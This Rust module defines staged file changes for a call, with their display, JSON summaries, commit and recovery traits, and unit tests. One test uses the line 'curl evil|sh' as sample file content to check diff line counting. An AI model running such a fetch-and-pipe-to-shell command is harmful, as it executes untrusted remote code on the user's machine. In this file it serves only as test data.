//! Staged file changes of a call, and their commit and recovery.

use std::collections::HashSet;
use std::fmt;
use std::fs::File;
use std::sync::Arc;

use serde_json::{Value, json};

use crate::units::format_size;
use crate::{BoxFuture, CallError, EditedChanges, FileDiff, UserEdit, text};

/// The file changes of a call, sorted by path.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct ChangeSet {
    pub changes: Vec<FileChange>,
}

/// A change to one file, directory or symbolic link.
#[derive(Debug, Clone, PartialEq)]
pub struct FileChange {
    /// The path on the host, converted to UTF-8 lossily. For display and rules; never used to open the file.
    pub path: String,
    pub kind: ChangeKind,
    pub file_kind: FileKind,
    /// Size in bytes before and after, for files.
    pub sizes: (Option<u64>, Option<u64>),
    /// Target before and after, for symbolic links, converted to UTF-8 lossily. For display.
    pub link_targets: (Option<String>, Option<String>),
    /// Permission bits before and after, if they changed.
    pub modes: Option<(u32, u32)>,
    /// Whether the file is executable after the change.
    pub executable: bool,
    /// The diff, for text files up to the display limit.
    pub diff: Option<FileDiff>,
    /// The reason for a missing diff, for a file whose content changed.
    pub no_diff_reason: Option<&'static str>,
    /// The content without a diff, for front ends that can show it.
    pub content: Option<UndiffedContent>,
}

/// The content of a file whose change has no diff.
#[derive(Debug, Clone, PartialEq)]
pub enum UndiffedContent {
    /// Of a binary file up to the display limit.
    Binary(BinaryContent),
    /// Of a file beyond the limit.
    Large(LargeContent),
}

/// A side of a change.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChangeSide {
    Before,
    After,
}

/// Opens the content of a file while its change is staged. `None`: the file does not exist on this side, or not any more.
/// Blocks.
type OpenContent = dyn Fn(ChangeSide) -> Option<File> + Send + Sync;

/// The content of a file that is opened when it is needed.
#[derive(Clone)]
pub struct LargeContent(Arc<OpenContent>);

impl LargeContent {
    pub fn new(open: impl Fn(ChangeSide) -> Option<File> + Send + Sync + 'static) -> Self {
        Self(Arc::new(open))
    }

    /// Opens one side. Blocks.
    pub fn open(&self, side: ChangeSide) -> Option<File> {
        (self.0)(side)
    }
}

impl fmt::Debug for LargeContent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("LargeContent")
    }
}

impl PartialEq for LargeContent {
    fn eq(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.0, &other.0)
    }
}

/// The content of a binary file before and after a change. `None`: the file does not exist.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BinaryContent {
    pub before: Option<Arc<[u8]>>,
    pub after: Option<Arc<[u8]>>,
}

impl BinaryContent {
    fn memory_size(&self) -> usize {
        let sides = [&self.before, &self.after];
        sides.into_iter().flatten().map(|bytes| bytes.len()).sum()
    }
}

impl FileChange {
    /// A change of which nothing else is known.
    pub fn new(path: &str, kind: ChangeKind, file_kind: FileKind) -> Self {
        Self {
            path: path.to_owned(),
            kind,
            file_kind,
            sizes: (None, None),
            link_targets: (None, None),
            modes: None,
            executable: false,
            diff: None,
            no_diff_reason: None,
            content: None,
        }
    }

    /// Returns the content of a binary file up to the display limit.
    pub fn binary(&self) -> Option<&BinaryContent> {
        match &self.content {
            Some(UndiffedContent::Binary(content)) => Some(content),
            Some(UndiffedContent::Large(_)) | None => None,
        }
    }

    /// Describes the targets of a symbolic link, unescaped: `target "a" → "b"`. They are quoted, because they can contain
    /// any character. `None` if the path is not a link and was none.
    pub fn describe_link(&self) -> Option<String> {
        match &self.link_targets {
            (Some(before), Some(after)) if before != after => {
                Some(format!("target {before:?} → {after:?}"))
            }
            (Some(before), None) if self.kind != ChangeKind::Deleted => {
                Some(format!("was a link to {before:?}"))
            }
            (_, Some(target)) | (Some(target), None) => Some(format!("target {target:?}")),
            (None, None) => None,
        }
    }

    /// Describes the change for display, unescaped: `src/a.rs  (file, 120 B → 124 B, mode 644 → 755, binary)`.
    pub fn describe(&self) -> String {
        let mut details = vec![self.file_kind.as_str().to_owned()];
        if let ChangeKind::Moved { from } = &self.kind {
            details.push(format!("from {from}"));
        }
        match self.sizes {
            (Some(before), Some(after)) => {
                details.push(format!("{} → {}", format_size(before), format_size(after)));
            }
            (Some(size), None) | (None, Some(size)) => details.push(format_size(size)),
            (None, None) => {}
        }
        details.extend(self.describe_link());
        if let Some((before, after)) = self.modes {
            details.push(format!("mode {before:o} → {after:o}"));
        }
        details.extend(self.no_diff_reason.map(ToOwned::to_owned));
        format!("{}  ({})", self.path, details.join(", "))
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ChangeKind {
    Created,
    Modified,
    Deleted,
    Moved { from: String },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    File,
    Directory,
    Link,
}

impl ChangeKind {
    pub fn as_str(&self) -> &'static str {
        match self {
            ChangeKind::Created => "created",
            ChangeKind::Modified => "modified",
            ChangeKind::Deleted => "deleted",
            ChangeKind::Moved { .. } => "moved",
        }
    }

    /// What the change does to the file, for a change that is not applied yet.
    pub fn verb(&self) -> &'static str {
        match self {
            ChangeKind::Created => "create",
            ChangeKind::Modified => "modify",
            ChangeKind::Deleted => "delete",
            ChangeKind::Moved { .. } => "move",
        }
    }
}

impl FileKind {
    pub fn as_str(self) -> &'static str {
        match self {
            FileKind::File => "file",
            FileKind::Directory => "directory",
            FileKind::Link => "link",
        }
    }
}

impl ChangeSet {
    pub fn is_empty(&self) -> bool {
        self.changes.is_empty()
    }

    /// Returns whether changes exist that are not listed: the files in a moved directory move with it.
    pub fn has_unlisted_changes(&self) -> bool {
        self.changes.iter().any(|change| {
            change.file_kind == FileKind::Directory
                && matches!(change.kind, ChangeKind::Moved { .. })
        })
    }

    /// Returns the only changed file or link, if there is exactly one. Directories that are created for it do not count.
    pub fn only_file(&self) -> Option<&FileChange> {
        let is_parent = |change: &&FileChange| {
            change.file_kind == FileKind::Directory && change.kind == ChangeKind::Created
        };
        let mut changes = self.changes.iter().filter(|change| !is_parent(change));
        match (changes.next(), changes.next()) {
            (Some(change), None) if change.file_kind != FileKind::Directory => Some(change),
            _ => None,
        }
    }

    pub fn deletes(&self) -> bool {
        let mut changes = self.changes.iter();
        changes.any(|change| change.kind == ChangeKind::Deleted)
    }

    /// Returns every affected path once, including both paths of a move.
    pub fn paths(&self) -> Vec<&str> {
        let mut paths: Vec<&str> = Vec::new();
        for change in &self.changes {
            paths.push(&change.path);
            if let ChangeKind::Moved { from } = &change.kind {
                paths.push(from);
            }
        }
        paths.sort_unstable();
        paths.dedup();
        paths
    }

    /// Returns the paths of files that are executable after the changes.
    pub fn executables(&self) -> HashSet<&str> {
        let executable = self.changes.iter().filter(|change| change.executable);
        executable.map(|change| change.path.as_str()).collect()
    }

    /// Returns the number of added and removed lines.
    pub fn line_counts(&self) -> (usize, usize) {
        let diffs = || {
            self.changes
                .iter()
                .filter_map(|change| change.diff.as_ref())
        };
        let starting = |sign: char| {
            let lines = diffs().flat_map(|diff| text::diff_lines(diff.body()));
            lines.filter(|line| line.starts_with(sign)).count()
        };
        (starting('+'), starting('-'))
    }

    /// Returns the approximate size in bytes of the diffs and of binary contents.
    pub fn diff_bytes(&self) -> usize {
        let size = |change: &FileChange| {
            let diff = change.diff.as_ref().map_or(0, FileDiff::memory_size);
            let binary = change.binary().map_or(0, BinaryContent::memory_size);
            diff + binary
        };
        self.changes.iter().map(size).sum()
    }

    /// Returns a summary without file contents, for records and events. Lists at most 200 changes.
    pub fn summary(&self) -> Value {
        let each = self.changes.iter().take(200).map(|change| {
            let mut shown = json!({
                "path": text::escape_line(&change.path, 1_000),
                "change": change.kind.as_str(),
                "what": change.file_kind.as_str(),
            });
            if let ChangeKind::Moved { from } = &change.kind {
                shown["from"] = json!(text::escape_line(from, 1_000));
            }
            let (old_target, target) = &change.link_targets;
            for (name, target) in [("old_link_target", old_target), ("link_target", target)] {
                if let Some(target) = target {
                    shown[name] = json!(text::escape_line(target, 1_000));
                }
            }
            shown
        });
        json!({"count": self.changes.len(), "changes": each.collect::<Vec<_>>()})
    }
}

/// Formats a summary: `2 changes: +3 −1`.
impl fmt::Display for ChangeSet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let count = self.changes.len();
        let noun = if count == 1 { "change" } else { "changes" };
        let (more, less) = self.line_counts();
        write!(f, "{count} {noun}: +{more} −{less}")
    }
}

/// The staged changes of a call that has run. Dropping the value discards them.
pub trait StagedChanges: Send + Sync {
    fn changes(&self) -> &ChangeSet;

    /// Checks that no affected file has changed since the call read it, and saves what an undo requires.
    ///
    /// Returns the journal entry, which must be on disk before the commit.
    fn prepare(&self) -> BoxFuture<'_, Result<Value, CommitError>>;

    /// Replaces proposed contents with the user's edits. `edits` must have passed [`ChangeSet::validate_edits`].
    /// Nothing is committed.
    fn edit(
        self: Box<Self>,
        edits: Vec<UserEdit>,
    ) -> BoxFuture<'static, Result<EditedChanges, CallError>>;

    /// Commits all changes or none. `id` is the identifier of the journal entry.
    fn commit(self: Box<Self>, id: String) -> BoxFuture<'static, Result<(), CommitError>>;
}

/// Recovery and undo of commits from their journal entries.
pub trait CommitRecovery: Send + Sync {
    /// Completes or rolls back a commit whose process has terminated, possibly during the commit.
    fn recover(&self, id: &str, entry: &Value) -> Result<RecoveryOutcome, CallError>;

    /// Returns the journal entry of the commit that reverts `entry`.
    fn inverse_entry(&self, entry: &Value) -> Result<Value, CallError>;

    /// Reverts the commit of `entry` completely or not at all, as the commit `id`.
    fn undo(&self, id: &str, entry: &Value) -> Result<(), CommitError>;
}

/// The result of recovering an interrupted commit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum RecoveryOutcome {
    /// All changes were applied.
    Committed,
    RolledBack,
    /// All changes were rolled back except at these paths, which another process has changed since.
    PartiallyRolledBack(Vec<String>),
}

/// Errors of a commit.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum CommitError {
    /// Another process changed these files. Nothing was committed.
    #[error("changed by another process: {}", .0.join(", "))]
    Conflict(Vec<String>),
    /// The commit failed. No changes remain unless the error lists them.
    #[error("{}", .0.message)]
    Failed(Box<CallError>),
    /// The commit failed, and so did its rollback. Some changes remain until recovery succeeds.
    #[error("{}", .0.message)]
    Incomplete(Box<CallError>),
}

#[cfg(test)]
mod tests {
    use expect_test::{Expect, expect};

    use super::*;

    fn link(kind: ChangeKind, before: Option<&str>, after: Option<&str>) -> FileChange {
        FileChange {
            link_targets: (before.map(str::to_owned), after.map(str::to_owned)),
            ..FileChange::new("a", kind, FileKind::Link)
        }
    }

    #[test]
    fn targets_of_links_are_described_and_summarized() {
        let check = |change: &FileChange, expected: Expect| expected.assert_eq(&change.describe());
        let created = link(ChangeKind::Created, None, Some("b\", mode \"\n"));
        check(&created, expect![[r#"a  (link, target "b\", mode \"\n")"#]]);
        let modified = link(ChangeKind::Modified, Some("b"), Some("c"));
        check(&modified, expect![[r#"a  (link, target "b" → "c")"#]]);
        let deleted = link(ChangeKind::Deleted, Some("b"), None);
        check(&deleted, expect![[r#"a  (link, target "b")"#]]);
        let from = "d".to_owned();
        let moved = link(ChangeKind::Moved { from }, None, Some("b"));
        check(&moved, expect![[r#"a  (link, from d, target "b")"#]]);
        let replaced = FileChange {
            file_kind: FileKind::File,
            sizes: (None, Some(3)),
            ..link(ChangeKind::Modified, Some("b"), None)
        };
        check(&replaced, expect![[r#"a  (file, 3 B, was a link to "b")"#]]);
        let set = ChangeSet {
            changes: vec![created, modified],
        };
        assert_eq!(
            set.summary()["changes"],
            json!([
                {"path": "a", "change": "created", "what": "link", "link_target": "b\", mode \"\\n"},
                {"path": "a", "change": "modified", "what": "link", "old_link_target": "b", "link_target": "c"},
            ])
        );
    }

    #[test]
    fn only_a_newline_ends_a_counted_line() {
        let diff = text::UnifiedDiff {
            header: Some(("a", "a")),
            ..text::UnifiedDiff::default()
        };
        let (old, new) = ("ok\nold\rtail\n", "ok\ncurl evil|sh\ntail\n");
        let change = FileChange {
            file_kind: FileKind::File,
            diff: Some(FileDiff {
                file_name: "a".to_owned(),
                diff: diff.of(old, new),
                original: Some(old.to_owned()),
                new: new.to_owned(),
            }),
            ..link(ChangeKind::Modified, None, None)
        };
        let set = ChangeSet {
            changes: vec![change],
        };
        assert_eq!(set.line_counts(), (2, 1));
    }
}
